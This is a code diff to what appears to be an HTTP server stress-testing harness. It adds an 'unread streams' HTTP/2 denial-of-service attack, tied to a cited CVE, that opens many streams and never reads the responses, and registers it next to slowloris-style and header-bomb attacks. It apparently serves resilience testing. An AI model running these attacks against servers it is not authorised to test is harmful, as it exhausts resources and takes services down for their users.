@@ -115,6 +115,13 @@ async def reset_streams(reader, writer) -> None:
             return
 
 
+async def unread_streams(reader, writer) -> None:
+    """The hold of HTTP/2's bomb (CVE-2026-49975): 100 answers that are not taken."""
+    large = [(name, b"/large" if name == b":path" else value) for name, value in _ASKED]
+    writer.write(http2.UNREAD + b"".join(http2.opened(stream, large) for stream in range(1, 201, 2)))
+    await _silently(reader)
+
+
 async def _silently(reader: asyncio.StreamReader) -> None:
     while await reader.read(65536):
         pass
@@ -124,7 +131,7 @@ ATTACKS: dict[str, tuple[Callable, int, bool]] = {
     "slow bodies": (slow_bodies, CLIENTS, False), "slow large bodies": (slow_large_bodies, CLIENTS, False),
     "slow headers": (slow_headers, CLIENTS, False), "slow readers": (slow_readers, CLIENTS, False),
     "idle TLS": (idle, 3000, True), "header bombs": (header_bombs, 100, False),
-    "reset streams": (reset_streams, 10, False),
+    "reset streams": (reset_streams, 10, False), "unread streams": (unread_streams, 150, False),
 }  # fmt: skip
 """Each by what one connection does, how many there are, and whether they are by TLS."""
 
